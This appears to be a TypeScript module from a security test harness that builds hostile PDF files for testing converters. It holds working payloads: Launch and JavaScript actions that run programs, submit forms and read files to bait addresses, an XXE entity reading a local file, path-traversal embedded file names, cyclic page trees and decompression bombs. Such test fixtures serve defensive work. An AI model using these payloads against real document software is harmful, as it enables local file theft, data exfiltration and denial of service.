/** PDF documents that refer to files, run scripts, or unpack without an end. */
import { deflateSync } from 'node:zlib';
import type { Bait } from '../kit/bait.ts';
import { pdf as document, onePage } from '../make/pdf.ts';
import { type HostileInput, input } from './input.ts';

const MIB = 1024 ** 2;
const TEXT = 'BT /F 12 Tf 20 200 Td (text) Tj ET';

/** Everything that refers to something outside. */
const links = (bait: Bait) => {
  const file = (path: string) => `<</Type /Filespec /F (${path}) /UF (${path})>>`;
  const actions = [
    `<</S /Launch /F ${file('/bin/touch')} /Unix <</F (/bin/touch) /P (${bait.target('launch')})>>>>`,
    `<</S /JavaScript /JS (app.launchURL\\("${bait.url}"\\); this.submitForm\\("${bait.url}"\\); util.readFileIntoStream\\("${bait.file('txt')}"\\);)>>`,
    `<</S /URI /URI (${bait.url})>>`,
    `<</S /GoToR /F ${file(bait.file('txt'))} /D [0 /Fit]>>`,
    `<</S /SubmitForm /F <</FS /URL /F (${bait.url})>>>>`,
    `<</S /ImportData /F ${file(bait.file('txt'))}>>`,
  ];
  return onePage(
    `${TEXT} q 64 0 0 64 20 100 cm /X Do Q q 64 0 0 64 120 100 cm /Y Do Q /Z Do`,
    {
      catalogue: `/OpenAction ${actions[0]} /AA <</WC ${actions[1]}>> /Names <</JavaScript <</Names [(a) ${actions[1]}]>> /EmbeddedFiles <</Names [(../../../../..${bait.target('pdf')}) 8 0 R]>>>> /AcroForm <</XFA 9 0 R /Fields []>>`,
      page: `/AA <</O ${actions[2]} /C ${actions[3]}>> /Annots [<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${actions[4]}>> <</Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A ${actions[5]}>>]`,
      resources: '/XObject <</X 5 0 R /Y 6 0 R /Z 7 0 R>>',
    },
    [
      // The data of a stream may stand in another file.
      {
        dictionary: `<</Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceRGB /F ${file(bait.file('png'))}>>`,
        stream: '',
      },
      {
        dictionary: `<</Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceRGB /F <</FS /URL /F (${bait.url}/stream)>>>>`,
        stream: '',
      },
      {
        dictionary: `<</Type /XObject /Subtype /Form /BBox [0 0 300 300] /Ref <</F ${file(bait.file('txt'))} /Page 0>> /F ${file(bait.file('txt'))}>>`,
        stream: '',
      },
      `<</Type /Filespec /F (../../../../..${bait.target('pdf')}) /EF <</F 10 0 R>>>>`,
      {
        dictionary: '<<>>',
        stream: `<!DOCTYPE x [<!ENTITY x SYSTEM "file://${bait.file('txt')}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&x;</xdp:xdp>`,
      },
      { dictionary: '<</Type /EmbeddedFile>>', stream: 'pwned' },
    ],
  );
};

/** A stream that was compressed several times. */
function packedOften(data: Buffer, times: number) {
  let stream = data;
  for (let count = 0; count < times; count++) stream = deflateSync(stream, { level: 9 });
  return { dictionary: `<</Filter [${'/FlateDecode '.repeat(times)}]>>`, stream };
}

export const pdf: readonly HostileInput[] = [
  input(
    'read',
    'a PDF document with files, scripts, programs and addresses',
    'links.pdf',
    ['pdf', 'png', 'txt', 'docx', 'html', 'tiff', 'svg'],
    links,
  ),
  input(
    'exhaust',
    'a PDF page that unpacks to gigabytes of drawing',
    'draw.pdf',
    ['pdf', 'png', 'txt', 'tiff'],
    () => onePage(packedOften(Buffer.alloc(256 * MIB, '0 0 m 9 9 l S\n'), 3)),
  ),
  input(
    'exhaust',
    'a PDF page of 1,000,000 by 1,000,000 points',
    'wide.pdf',
    ['pdf', 'png', 'jpg', 'svg'],
    () => onePage(TEXT, { page: '/MediaBox [0 0 1000000 1000000] /UserUnit 1000' }),
  ),
  input('exhaust', 'a PDF document whose pages are in each other', 'ring.pdf', ['pdf', 'png', 'txt'], () =>
    document([
      '<</Type /Catalog /Pages 2 0 R>>',
      '<</Type /Pages /Kids [3 0 R 3 0 R] /Count 1000000000>>',
      '<</Type /Pages /Kids [2 0 R 2 0 R 4 0 R] /Parent 2 0 R /Count 2>>',
      '<</Type /Page /Parent 3 0 R /MediaBox [0 0 9 9]>>',
    ]),
  ),
  input('exhaust', 'a PDF document of a million pages', 'pages.pdf', ['pdf', 'png', 'txt'], () =>
    document([
      '<</Type /Catalog /Pages 2 0 R>>',
      `<</Type /Pages /Kids [${'3 0 R '.repeat(1_000_000)}] /Count 1000000>>`,
      '<</Type /Page /Parent 2 0 R /MediaBox [0 0 300 300]>>',
    ]),
  ),
  input('exhaust', 'a PDF page that draws forms in forms', 'forms.pdf', ['pdf', 'png', 'jpg'], () =>
    onePage(
      '/X5 Do',
      { resources: '/XObject <</X5 5 0 R>>' },
      Array.from({ length: 9 }, (_, level) => ({
        dictionary: `<</Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X${level + 6} ${level + 6} 0 R>>>>>>`,
        stream: level < 8 ? `/X${level + 6} Do `.repeat(10) : '0 0 m 9 9 l S',
      })),
    ),
  ),
  input('exhaust', 'a PDF image of 100,000 by 100,000 pixels', 'image.pdf', ['pdf', 'png', 'jpg'], () =>
    onePage('300 0 0 300 0 0 cm /X Do', { resources: '/XObject <</X 5 0 R>>' }, [
      {
        dictionary:
          '<</Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode>>',
        stream: deflateSync(Buffer.alloc(64 * MIB)),
      },
    ]),
  ),
];
